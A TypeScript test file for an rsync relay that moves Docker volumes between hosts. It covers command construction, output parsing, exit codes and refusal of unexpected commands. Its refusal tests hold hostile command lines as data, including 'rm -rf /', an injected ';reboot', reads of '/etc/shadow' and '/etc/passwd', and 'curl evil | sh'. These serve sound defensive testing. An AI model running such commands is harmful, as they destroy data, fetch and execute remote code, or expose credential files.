import {type RemoteProcess, type RemoteShell, TransshipError} from '@transship/kit'
import {spawnSync} from 'node:child_process'
import {PassThrough} from 'node:stream'
import {describe, expect, it, vi} from 'vitest'

import {
  destinationCommand,
  excludePattern,
  parseItemizedLine,
  parseRsyncVersion,
  rsyncRelay,
  senderCommand,
  unescapeRsyncName,
} from '../../src/rsync-relay.js'

/** the arguments rsync 3.5 gives its remote shell for -aHAXS --numeric-ids (with -c and -n when asked) */
const CLIENT_ARGS = ['x', 'rsync', '--server', '--sender', '-lHogDtpAXrSe.iLsfxCIvu', '--numeric-ids', '.', './']

function refusal(args: string[]): TransshipError | undefined {
  try {
    senderCommand(args, '/srv/vol', 'edge')
  } catch (error) {
    return error as TransshipError
  }

  return undefined
}

describe('rsync relay: command lines', () => {
  it('runs the sender the client asked for, on the source root transship names', () => {
    expect(senderCommand(CLIENT_ARGS, "/var/lib/docker/volumes/it's/_data", 'edge')).toBe(
      String.raw`exec rsync --server --sender -lHogDtpAXrSe.iLsfxCIvu --numeric-ids . '/var/lib/docker/volumes/it'\''s/_data/'`,
    )
    const dryChecksum = ['x', 'rsync', '--server', '--sender', '-nlHogDtpAXrSce.iLsfxCIvu', '--numeric-ids', '.', './']
    expect(senderCommand(dryChecksum, '/v/', 'edge')).toBe(
      "exec rsync --server --sender -nlHogDtpAXrSce.iLsfxCIvu --numeric-ids . '/v/'",
    )
  })

  it('refuses a first line that is not `rsync --server --sender` with plain options', () => {
    const cases = [
      ['x', 'sh', '-c', 'rm -rf /'],
      ['x', 'rsync', '--server', '.', './'],
      ['x', '/usr/bin/rsync', '--server', '--sender', '-lr', '.', './'],
      ['x', 'rsync', '--server', '--sender', '--remove-source-files', '-lr', '.', './'],
      ['x', 'rsync', '--server', '--sender', '-lr', '--rsync-path=touch /tmp/x', '.', './'],
      ['x', 'rsync', '--server', '--sender', '-lr;reboot', '.', './'],
      ['x', 'rsync', '--server', '--sender', '-lr', '.', './', '/etc/'],
      ['x', 'rsync', '--server', '--sender', '-lr', 'x', './'],
      ['x', 'rsync', '--server', '--sender', '-lrf', 'merge /etc/shadow', '.', './'],
      [],
    ]
    for (const args of cases) {
      const error = refusal(args)
      expect(error, JSON.stringify(args)).toBeInstanceOf(TransshipError)
      expect(error?.code).toBe('VOLUME_RSYNC_REFUSED')
      expect(error?.message).toContain('edge asked to run something other than an rsync sender')
    }
  })

  it('builds a receiver whose relay reports its arguments NUL-framed, then relays', () => {
    const command = destinationCommand('/data/my vol/', {checksum: true, dryRun: true, exclude: ['.marker', 'a*b']})
    expect(command).toContain(`'--checksum' '--dry-run' '--exclude=/.marker' '--exclude=/a\\*b'`)
    expect(command).toContain(`'x:./' '/data/my vol/' >"$t"`)
    expect(command).not.toContain('--exclude=/a*b')
    // the command is one valid sh script
    expect(spawnSync('sh', ['-n', '-c', command]).status).toBe(0)
    // its relay, run as rsync runs it, writes the count and arguments first, then relays stdin
    const rsh = /'--rsh=sh -c '\\''(.*)'\\'' relay'/.exec(command)?.[1]?.replaceAll(String.raw`'\''`, "'")
    expect(rsh).toBeDefined()
    // fd 3 (the channel's stdin) stays open a moment: the relay ends when it ends
    const script = `exec 6<&0 4>&1; sleep 0.3 | { exec 3<&0 0<&6 6<&-; sh -c '${rsh}' relay x rsync 'a b'; }`
    const relayed = spawnSync('sh', ['-c', script], {input: 'client bytes'})
    expect(relayed.stdout.toString()).toBe('3\0x\0rsync\0a b\0client bytes')
  })

  it('excludes root-level names only, literally', () => {
    expect(excludePattern('.transship-incomplete')).toBe('/.transship-incomplete')
    expect(excludePattern('[x]?')).toBe(String.raw`/\[x]\?`)
    for (const bad of ['', '.', '..', 'a/b', 'a\nb']) expect(() => excludePattern(bad)).toThrow(TypeError)
  })

  it('reads rsync --version', () => {
    const v35 =
      'rsync  version 3.5.0  protocol version 32\nCopyright ...\nCapabilities:\n    64-bit files, ACLs, xattrs\n'
    expect(parseRsyncVersion(v35)).toEqual({acls: true, protocol: 32, version: [3, 5, 0], xattrs: true})
    const old = 'rsync  version 3.0.9  protocol version 30\nCapabilities: 64-bit files, no ACLs, no xattrs\n'
    expect(parseRsyncVersion(old)).toEqual({acls: false, protocol: 30, version: [3, 0, 9], xattrs: false})
    expect(parseRsyncVersion('BusyBox v1.36')).toBeUndefined()
  })
})

describe('rsync relay: itemized changes', () => {
  it('maps names back to manifest paths', () => {
    expect(unescapeRsyncName('a b')).toBe('a b')
    expect(unescapeRsyncName(String.raw`new\#012line`)).toBe('new\nline')
    expect(unescapeRsyncName(String.raw`caf\#351.txt`)).toBe(String.raw`caf\xE9.txt`)
    expect(unescapeRsyncName(String.raw`caf\#303\#251.txt`)).toBe('café.txt')
    // rsync escapes a literal `\#` that precedes digits as \#134#
    expect(unescapeRsyncName(String.raw`x\#134#101`)).toBe(String.raw`x\#101`)
    expect(unescapeRsyncName(String.raw`back\#slash`)).toBe(String.raw`back\#slash`)
    expect(unescapeRsyncName('dir/sub/')).toBe('dir/sub')
  })

  it('tells changed paths from deleted ones, and skips the root and other lines', () => {
    const lines = [
      '.d..t...... ./',
      'cd+++++++++ sub/',
      '>f+++++++++ sub/a file',
      '>f.st...... big',
      '.f...p..... mode only',
      'cL+++++++++ link',
      'hf+++++++++ hard',
      'cD+++++++++ fifo',
      '*deleting   gone/',
      '*deleting   old file',
      'created directory /dst',
      '',
    ]
    expect(lines.map((line) => parseItemizedLine(line))).toEqual([
      undefined,
      {kind: 'changed', path: 'sub'},
      {kind: 'changed', path: 'sub/a file'},
      {kind: 'changed', path: 'big'},
      {kind: 'changed', path: 'mode only'},
      {kind: 'changed', path: 'link'},
      {kind: 'changed', path: 'hard'},
      {kind: 'changed', path: 'fifo'},
      {kind: 'deleted', path: 'gone'},
      {kind: 'deleted', path: 'old file'},
      undefined,
      undefined,
    ])
  })
})

/** a destination whose relay reports `args` (NUL-framed, after the list file's name), then waits to be stopped */
function reportingShell(
  args: string[],
  listFile = '/tmp/transship-rsync.AbCd1234',
): {commands: string[]; shell: RemoteShell} {
  const commands: string[] = []
  const shell: RemoteShell = {
    engineSocket: '/run/docker.sock',
    exec(command, options) {
      commands.push(command)
      const stdout = new PassThrough()
      const process: RemoteProcess = {
        exit: new Promise((resolve) => {
          options?.signal?.addEventListener('abort', () => resolve({code: null, signal: 'SIGTERM', stderr: ''}))
        }),
        stdin: new PassThrough(),
        stdout,
      }
      stdout.write([listFile, String(args.length), ...args].map((field) => `${field}\0`).join(''))
      return process
    },
    run: vi.fn(async (command: string) => {
      commands.push(command)
      return {code: 0, stderr: '', stdout: ''}
    }),
  }
  return {commands, shell}
}

describe('rsync relay: a destination that asks for another command', () => {
  it('is refused: nothing runs on the source, the destination is stopped, its list file removed', async () => {
    const destination = reportingShell(['x', 'sh', '-c', 'curl evil | sh'])
    const exec = vi.fn()
    const source: RemoteShell = {engineSocket: '', exec, run: vi.fn()}
    const relayed = rsyncRelay(
      {host: 'here', root: '/src', shell: source},
      {host: 'there', root: '/dst', shell: destination.shell},
    )
    await expect(relayed).rejects.toMatchObject({
      code: 'VOLUME_RSYNC_REFUSED',
      message: expect.stringContaining('there asked to run something other than an rsync sender'),
    })
    expect(exec).not.toHaveBeenCalled()
    expect(source.run).not.toHaveBeenCalled()
    expect(destination.commands.at(-1)).toBe("rm -f -- '/tmp/transship-rsync.AbCd1234'")
  })

  it('refuses a list file that mktemp did not make, and removes nothing', async () => {
    const destination = reportingShell(CLIENT_ARGS, '/etc/passwd')
    const exec = vi.fn()
    const relayed = rsyncRelay(
      {host: 'here', root: '/src', shell: {engineSocket: '', exec, run: vi.fn()}},
      {host: 'there', root: '/dst', shell: destination.shell},
    )
    await expect(relayed).rejects.toMatchObject({code: 'VOLUME_RSYNC_REFUSED'})
    expect(exec).not.toHaveBeenCalled()
    expect(destination.commands).toHaveLength(1)
  })
})

/** a process that writes `output`, ends, and exits with `code` */
function finished(output: string, code: number, stderr = ''): RemoteProcess {
  const stdout = new PassThrough()
  stdout.end(output)
  const stdin = new PassThrough()
  stdin.resume()
  return {exit: Promise.resolve({code, stderr}), stdin, stdout}
}

describe('rsync relay: exit codes', () => {
  it('takes exit 24 (files vanished on the source) as a warning; counts bytes each way; lists the changes', async () => {
    const header = ['/tmp/transship-rsync.AbCd1234', '8', ...CLIENT_ARGS].map((field) => `${field}\0`).join('')
    const list = ['.d..t...... ./', '>f+++++++++ new file', String.raw`*deleting   old\#012name`, ''].join('\n')
    const destination: RemoteShell = {
      engineSocket: '',
      exec: vi
        .fn()
        .mockReturnValueOnce(finished(`${header}client`, 24, 'file has vanished: "/src/tmp.x"'))
        .mockReturnValueOnce(finished(list, 0)),
      run: vi.fn(),
    }
    const source: RemoteShell = {engineSocket: '', exec: vi.fn(() => finished('server bytes', 24)), run: vi.fn()}
    const warn = vi.fn()
    const result = await rsyncRelay(
      {host: 'here', root: '/src', shell: source},
      {host: 'there', root: '/dst', shell: destination},
      {log: {info() {}, warn}},
    )
    expect(result).toMatchObject({
      bytesReceived: 'client'.length,
      bytesSent: 'server bytes'.length,
      changed: ['new file'],
      deleted: ['old\nname'],
    })
    expect(warn).toHaveBeenCalledWith(expect.stringContaining('some files on here vanished'))
    expect(source.exec).toHaveBeenCalledWith(
      "exec rsync --server --sender -lHogDtpAXrSe.iLsfxCIvu --numeric-ids . '/src/'",
      expect.anything(),
    )
    expect(destination.exec).toHaveBeenLastCalledWith(
      "cat -- '/tmp/transship-rsync.AbCd1234' && rm -f -- '/tmp/transship-rsync.AbCd1234'",
      expect.anything(),
    )
  })

  it("fails on any other exit, with both sides' stderr", async () => {
    const header = ['/tmp/transship-rsync.AbCd1234', '8', ...CLIENT_ARGS].map((field) => `${field}\0`).join('')
    const destination: RemoteShell = {
      engineSocket: '',
      exec: vi.fn(() => finished(header, 23, 'rsync: [receiver] mkstemp failed: Permission denied (13)')),
      run: vi.fn(async () => ({code: 0, stderr: '', stdout: ''})),
    }
    const source: RemoteShell = {engineSocket: '', exec: vi.fn(() => finished('', 0, 'sender said this')), run: vi.fn()}
    const relayed = rsyncRelay(
      {host: 'here', root: '/src', shell: source},
      {host: 'there', root: '/dst', shell: destination},
    )
    await expect(relayed).rejects.toMatchObject({
      code: 'VOLUME_TRANSFER_FAILED',
      message: [
        'rsync from here to there failed: receiver exit 23 (partial transfer due to error), sender exit 0',
        'there: rsync: [receiver] mkstemp failed: Permission denied (13)',
        'here: sender said this',
      ].join('\n'),
    })
    expect(destination.run).toHaveBeenCalledWith("rm -f -- '/tmp/transship-rsync.AbCd1234'", expect.anything())
  })
})
